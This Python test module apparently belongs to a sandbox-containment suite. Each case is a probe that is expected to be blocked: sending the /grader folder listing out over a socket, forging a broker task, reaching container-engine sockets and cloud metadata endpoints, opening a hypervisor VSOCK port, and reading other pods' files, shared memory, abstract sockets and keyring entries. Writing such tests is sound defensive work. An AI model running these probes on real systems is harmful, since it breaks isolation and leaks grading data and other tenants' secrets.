"""N: the network, other people's pods and files, the machine below."""

import contextlib
import socket
import threading
from collections.abc import Iterator, Mapping
from functools import partial

import psutil

from tests.corpus.case import Observed, Procedure
from tests.corpus.parts_containment import CALL, CONNECT, CONTAINED, Attempt, contained, file_beside, neighbour
from tests.corpus.world import World


@contextlib.contextmanager
def _listening(_: World) -> Iterator[Mapping[str, str]]:
    """A service on every address of this machine, which answers as Redis does."""

    def serve() -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = server.accept()
                with connection:
                    connection.sendall(b"+PONG\r\n")

    with socket.create_server(("", 0)) as server:
        threading.Thread(target=serve, daemon=True).start()
        port = server.getsockname()[1]
        found = {one.address for each in psutil.net_if_addrs().values() for one in each if one.family == socket.AF_INET}
        yield {"@HOST@": repr([(address, port) for address in sorted(found | {"127.0.0.1", "172.17.0.1"})])}
        server.shutdown(socket.SHUT_RDWR)


def _residue(world: World) -> Observed:
    """Somebody leaves something wherever a pod can write; the next one looks for it."""
    places = ("/workspace", "/tmp", "/dev/shm", "/dev/mqueue", "/var/tmp", "/run/lock")
    leave = f"""
    for place in {places}:
        try:
            open(f"{{place}}/corpus-left-behind", "w").close()
        except OSError as error:
            print(place, error)
    """
    look = f"""
    got = [place for place in {places} if os.path.exists(f"{{place}}/corpus-left-behind")]
    """
    left = Attempt(leave)(world)
    return Attempt(look)(world) if left.code == CONTAINED else left


CASES = (
    contained(
        "N01-send-out",
        "the held-out images' folder is sent to a machine outside",
        """
        import socket


        def send(address):
            with socket.create_connection(address, timeout=1.0) as connection:
                connection.sendall(" ".join(os.listdir("/grader")).encode())
            return True


        for address in @HOST@:
            attempt(f"sent to {address}", lambda: send(address))
        """,
        around=_listening,
    ),
    contained(
        "N02-broker",
        "a task of its own for the broker",
        """
        import socket


        def push(address):
            with socket.create_connection(address, timeout=1.0) as connection:
                connection.sendall(b"LPUSH live forged\\r\\n")
                return connection.recv(10)


        for address in @HOST@:
            attempt(f"{address} answers", lambda: push(address))
        """,
        around=_listening,
    ),
    contained(
        "N02-second-link",
        "a second conversation with the host over the pod's own socket",
        CONNECT,
        """
        attempt("the link", lambda: connect("/grader/link/host.sock"))
        for folder, _, names in os.walk("/grader/link"):
            for name in names:
                attempt(name, lambda: connect(f"{folder}/{name}"))
        """,
    ),
    contained(
        "N03-control-sockets",
        "the engine's socket, other services' sockets and the cloud's metadata",
        CONNECT,
        """
        import stat

        known = ["/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock"]
        for folder, _, names in os.walk("/"):
            if folder.startswith(("/proc", "/sys")):
                continue
            for name in names:
                try:
                    if stat.S_ISSOCK(os.lstat(f"{folder}/{name}").st_mode):
                        known.append(f"{folder}/{name}")
                except OSError:
                    pass
        for path in known:
            attempt(path, lambda: connect(path))
        for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200"):
            attempt(address, lambda: socket.create_connection((address, 80), timeout=1.0))
        """,
    ),
    contained(
        "N03-vsock",
        "a socket to the hypervisor, which no network namespace holds",
        """
        import socket


        def listen():
            with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as server:
                server.bind((socket.VMADDR_CID_ANY, 50_007))
            return True


        attempt("a VSOCK port of this machine", listen)
        """,
    ),
    contained(
        "N04-other-run",
        "a file in the scratch of a run that goes on beside it",
        """
        for folder, _, names in os.walk("/"):
            if "@NAME@" in names:
                got.append(f"{folder}/@NAME@")
        for process in filter(str.isdigit, os.listdir("/proc")):
            attempt(f"process {process}", lambda: os.path.exists(f"/proc/{process}/root/workspace/@NAME@"))
        """,
        around=file_beside,
    ),
    Procedure("N04-residue", "what an earlier pod left in any folder", _residue, (CONTAINED,)),
    contained(
        "N06-shared-memory",
        "shared memory of System V that another pod made",
        CALL,
        """attempt("the neighbour's memory", lambda: call(31, call(29, 0x6752, 64, 0), 0, 0) == 0)""",
        around=partial(neighbour, script="call(29, 0x6752, 64, 0o1666)"),
    ),
    contained(
        "N06-abstract-socket",
        "another pod's socket with an abstract name",
        CONNECT,
        r"""
        attempt("the neighbour", lambda: connect("\0corpus-neighbour"))
        """,
        around=partial(
            neighbour,
            script=r"""
            import socket

            server = socket.socket(socket.AF_UNIX)
            server.bind("\0corpus-neighbour")
            server.listen()
            """,
        ),
    ),
    contained(
        "N06-keys",
        "a key that another pod of the same user put into the kernel's key ring",
        CALL,
        """attempt("the neighbour's key", lambda: call(250, 10, -4, b"user", b"corpus", 0) > 0)""",
        around=partial(
            neighbour, script="""attempt("left", lambda: call(248, b"user", b"corpus", b"secret", 6, -4))"""
        ),
    ),
)
